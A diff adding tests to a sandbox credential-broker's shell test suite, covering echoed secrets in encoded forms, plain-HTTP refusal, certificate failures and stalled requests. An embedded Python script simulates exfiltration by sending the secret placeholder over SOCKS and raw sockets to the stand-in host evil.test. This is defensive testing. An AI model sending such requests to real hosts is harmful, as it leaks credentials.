@@ -39,9 +39,46 @@ if command -v node >/dev/null; then
 	expect_match "node: the server got the value" "token $REAL" "$(grep '"/echo-headers"' "$REQ" | tail -n1)"
 fi
 
-sb -- sh -c "$C -u \"user:\$API_KEY\" https://api.test/echo-headers"
+sb -- sh -c "$C -u \"user:\$API_KEY\" https://api.test/echo-headers; echo; echo \"ph=\$API_KEY\""
 B64=$(printf 'user:%s' "$REAL" | base64 -w0)
 expect_match "Basic auth: the server got user:value" "Basic $B64" "$(grep '"/echo-headers"' "$REQ" | tail -n1)"
+expect_no_match "Basic auth echoed: the credentials the broker built do not come back" "$B64|$REAL" "$OUT"
+expect_match "...the sandbox sees its own credentials instead" "Basic $(printf 'user:%s' "$(sed -n 's/^ph=//p' <<<"$OUT")" | base64 -w0)" "$OUT"
+
+# ---- echoes in other shapes: whatever the encoding, the value does not come back ----
+# forms.py FILE: every form of the value (raw, base64 at three alignments, hex) found in FILE
+cat >"$T_TMP/forms.py" <<'PYEOF'
+import base64, sys
+v = sys.argv[1].encode()
+data = open(sys.argv[2], "rb").read()
+forms = {"raw": v, "hex": v.hex().encode(), "HEX": v.hex().upper().encode()}
+for a in range(3):
+    enc = base64.b64encode(b"\0" * a + v)
+    forms[f"base64/{a}"] = enc[(8 * a + 5) // 6:(8 * (a + len(v))) // 6]
+found = [k for k, f in forms.items() if f in data]
+for decoded in (lambda d: base64.b64decode(d.strip() or b"="), lambda d: bytes.fromhex(d.strip().decode())):
+    try:
+        if v in decoded(data):
+            found.append("decoded")
+    except Exception:
+        pass
+print("forms found:", found or "none")
+PYEOF
+chmod 644 "$T_TMP/forms.py"
+for as in chunked base64 hex negotiated; do
+	sb -- sh -c "$C -H \"Authorization: Bearer \$API_KEY\" 'https://api.test/echo-headers?as=$as'" 
+	printf '%s' "$OUT" >"$T_TMP/out.$as"
+	expect_match "echo as $as: the server got the value" "Bearer $REAL" "$(grep '"/echo-headers?as='$as'"' "$REQ" | tail -n1)"
+	expect_eq "echo as $as: no form of the value reaches the sandbox" "forms found: none" "$($PY "$T_TMP/forms.py" "$REAL" "$T_TMP/out.$as")"
+done
+expect_match "echo in chunks: de-chunked, the placeholder in its place" '"Authorization": "Bearer ghp_' "$(cat "$T_TMP/out.chunked")"
+expect_no_match "a request asks for an identity response: no gzip came back" 'gzip' "$(grep '"/echo-headers?as=negotiated"' "$REQ" | tail -n1 | sed 's/.*"Accept-Encoding": "\([^"]*\)".*/\1/')"
+expect_match "...the server saw Accept-Encoding: identity" '"Accept-Encoding": "identity"' "$(grep '"/echo-headers?as=negotiated"' "$REQ" | tail -n1)"
+sb --log-format json -- sh -c "$C -o /dev/null -w '%{http_code}\n' -H \"Authorization: Bearer \$API_KEY\" 'https://api.test/echo-headers?as=gzip'; $C -H \"Authorization: Bearer \$API_KEY\" 'https://api.test/echo-headers?as=gzip'"
+expect_eq "a gzip body it cannot check: 502, not passed on" "502" "$(grep -x 502 <<<"$OUT")"
+expect_match "...saying why" 'not passed on: a content coding other than identity' "$OUT"
+expect_match "...recorded as secret.response_refused" '"event":"secret.response_refused".*"host":"api.test".*"outcome":"answered 502"' "$OUT"
+expect_no_match "...and nothing of the value" "$REAL" "$OUT"
 
 cat >"$T_TMP/body.json" <<'JSON'
 {"network": {"allow": ["api.test", "evil.test"]},
@@ -58,9 +95,54 @@ sb --log-format json -- sh -c "$C -H \"Authorization: Bearer \$API_KEY\" http://
 expect_match "leak: refused with a 403 naming the secret" 'blocked: the request carries the placeholder of secret API_KEY' "$OUT"
 expect_match "leak: recorded as secret.leak_blocked naming the secret" '"event":"secret.leak_blocked".*"secret":"API_KEY"' "$OUT"
 expect_eq "leak: nothing reached evil.test with the placeholder" "0" "$(grep '"host": "evil.test"' "$REQ" | grep -c 'Bearer')"
+# ---- the value never goes in clear: plain HTTP to the bound host, any port, is refused ----
+sb --allow api.test:8080 --log-format json -- sh -c "$C -H \"Authorization: Bearer \$API_KEY\" http://api.test/echo-headers; $C -H \"X-Key: \$API_KEY\" http://api.test:8080/"
+expect_match "plain HTTP to the bound host: 403 saying to use https" 'secret API_KEY over plain HTTP; its value goes to api.test over HTTPS only: use https://api.test/' "$OUT"
+expect_match "...recorded as secret.leak_blocked, over plain HTTP" '"event":"secret.leak_blocked".*"host":"api.test","reason":"its placeholder was sent over plain HTTP' "$OUT"
+expect_eq "...the value reached no plain HTTP server, on any port" "0" "$(grep -v '"server": "https"' "$REQ" | grep -c "$REAL")"
 sb --log-format json -- sh -c "$C -H \"Authorization: Bearer \$API_KEY\" https://api.test/echo-headers"
 expect_match "use: recorded as secret.used, with the request line" '"event":"secret.used".*"secret":"API_KEY".*"request":"GET /echo-headers HTTP/1.1"' "$OUT"
 expect_no_match "no event carries the value" "$REAL" "$OUT"
+
+# ---- protocols that are not HTTP keep working with a secret bound ----
+sb --allow allowed.test --ro-bind "$(dirname "$0")/protocols.py:/p.py" -- $PY /p.py
+for via in connect socks; do
+	expect_match "secrets bound, $via: a server that speaks first is relayed at once" "$via server-first: ok banner after [0-9]{1,3} ms" "$OUT"
+	expect_match "secrets bound, $via: a client-first binary or text protocol is relayed at once" "$via client-first: ok echo after [0-9]{1,3} ms and [0-9]{1,3} ms" "$OUT"
+done
+expect_match "secrets bound, connect: the tunnel is not cut after a while" 'connect server-first: ok .*still open after 3.2 s' "$OUT"
+expect_match "secrets bound, transparent: a server that speaks first" 'transparent server-first: ok banner after 1?[0-9]{1,3} ms' "$OUT"
+expect_match "secrets bound, transparent: a client-first protocol" 'transparent client-first: ok echo' "$OUT"
+
+# ---- a request head that stalls is checked when it completes, never relayed unread ----
+cat >"$T_TMP/partial.py" <<'PYEOF'
+import os, socket, sys, time
+ph = os.environ["API_KEY"]
+for via in ("socks", "transparent"):
+    if via == "socks":
+        s = socket.create_connection(("127.0.0.1", 1080), timeout=8)
+        s.sendall(b"\x05\x01\x00")
+        s.recv(2)
+        s.sendall(b"\x05\x01\x00\x03\x09evil.test\x00\x50")
+        s.recv(10)
+    else:
+        s = socket.create_connection(("evil.test", 80), timeout=8)
+    s.sendall(f"GET /partial-{via}?k={ph} HTTP/1.1\r\nHost: evil.test\r\n".encode())
+    time.sleep(3.5)  # longer than the old wait for a tunnel's (3 s) or a redirect's (1 s) name
+    s.sendall(b"Connection: close\r\n\r\n")
+    data = b""
+    try:
+        while chunk := s.recv(4096):
+            data += chunk
+    except OSError:
+        pass
+    print(via, repr(data.split(b"\r\n")[0]), "secret-blocked" if b"secret-blocked" in data else "")
+PYEOF
+chmod 644 "$T_TMP/partial.py"
+sb --ro-bind "$T_TMP/partial.py:/p.py" -- $PY /p.py
+expect_match "a stalled head through SOCKS: checked when complete, the leak blocked" "socks b'HTTP/1.1 403 Forbidden' secret-blocked" "$OUT"
+expect_match "a stalled head redirected: checked when complete, the leak blocked" "transparent b'HTTP/1.1 403 Forbidden' secret-blocked" "$OUT"
+expect_eq "...nothing of either reached evil.test" "0" "$(grep -c '/partial-' "$REQ")"
 
 # ---- the value is nowhere inside ----
 cat >"$T_TMP/hunt.py" <<'PYEOF'
@@ -118,10 +200,19 @@ expect_match "...and the hunt did read its own memory" 'scanned True' "$OUT"
 expect_match "...and the same hunt does find the placeholder (the method works)" "found: \['/proc/" "$OUT"
 
 # ---- a tampered upstream is refused ----
+before=$(grep -c "$REAL" "$REQ")
 run_sb OUT ST --resolve-hosts "$H" --allow api.test --secret 'API_KEY@api.test' --log-format json -- \
-	$C https://api.test/echo-headers
-expect_eq "upstream not trusted (no --upstream-ca): the request fails" "1" "$([ "$ST" -ne 0 ] && echo 1)"
+	sh -c "$C -w '%{http_code}\n' -H \"Authorization: Bearer \$API_KEY\" https://api.test/echo-headers"
+expect_match "upstream not trusted (no --upstream-ca): a 502 naming the reason" 'could not reach api.test securely: upstream certificate verification failed: [a-z]' "$OUT"
+expect_eq "...status 502" "502" "$(grep -x 502 <<<"$OUT")"
 expect_match "...recorded with the certificate error" '"event":"egress.connection".*certificate' "$OUT"
+expect_eq "...and nothing reached the server" "$before" "$(grep -c "$REAL" "$REQ")"
+# a trusted certificate, but not for this name (api.wild.test is not among its names)
+run_sb OUT ST --resolve-hosts "$H" --upstream-ca "$EGRESS_DIR/ca.pem" --allow api.wild.test \
+	--secret 'API_KEY@api.wild.test' -- \
+	sh -c "$C -H \"Authorization: Bearer \$API_KEY\" https://api.wild.test/echo-headers"
+expect_match "upstream certificate for another name: a 502 naming the reason" 'could not reach api.wild.test securely: .*certificate verification failed: hostname mismatch' "$OUT"
+expect_eq "...and nothing reached the server" "$before" "$(grep -c "$REAL" "$REQ")"
 
 # ---- paddockd: a value given to the API is used, and never answered, stored or logged ----
 VAL="sk-ApiG1venValue0123456789abcdefghijkl"
